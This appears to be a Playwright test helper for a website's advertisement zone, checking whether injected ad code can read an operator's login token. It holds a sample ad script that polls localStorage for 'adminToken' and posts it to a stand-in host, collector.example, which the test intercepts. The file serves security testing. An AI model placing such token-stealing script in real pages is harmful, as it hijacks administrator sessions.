import { type BrowserContext, expect, type Page } from '@playwright/test'
import { OPERATOR, type Site } from './running-site.ts'

export const setAd = (site: Site, adCode: string, isSandboxed = false) =>
  site.saveSetting('ad-zone', { adCode, isSandboxed, isActive: true })

export const adOn = (page: Page) => page.getByRole('complementary', { name: 'Advertisement' })
export const linkTo = (page: Page, path: string) =>
  page.getByRole('navigation', { name: 'Main' }).locator(`[href="${path}"]`)

/** Ad code that keeps looking for the operator's login. */
const SPY = `<p>Spy</p><script>
  const look = async () => {
    let found
    try { found = String(localStorage.getItem('adminToken')) } catch (error) { found = error.name }
    await fetch('https://collector.example/', { method: 'POST', mode: 'no-cors', body: found })
    setTimeout(look, 50)
  }
  look()
</script>`

export const spyOnLogin = async (page: Page, { site, adm }: { site: Site; adm: string }) => {
  const found: (string | null)[] = []
  const context: BrowserContext = page.context()
  await context.route('https://collector.example/**', (route) => {
    found.push(route.request().postData())
    return route.fulfill({ body: '' })
  })
  await setAd(site, SPY)
  await page.goto('/')
  await adOn(page).scrollIntoViewIfNeeded()
  const finds = () => expect.poll(() => found.length).toBeGreaterThan(found.length + 1)
  await finds()
  const other = await context.newPage()
  await other.goto(adm)
  await other.getByLabel('Username').fill(OPERATOR.username)
  await other.getByLabel('Password').fill(OPERATOR.password)
  await other.getByRole('button', { name: 'Login', exact: true }).click()
  await expect(other).toHaveURL(/\/adm\/media$/)
  await finds()
  expect(await other.evaluate(() => localStorage.getItem('adminToken'))).not.toBeNull()
  return [...new Set(found)]
}
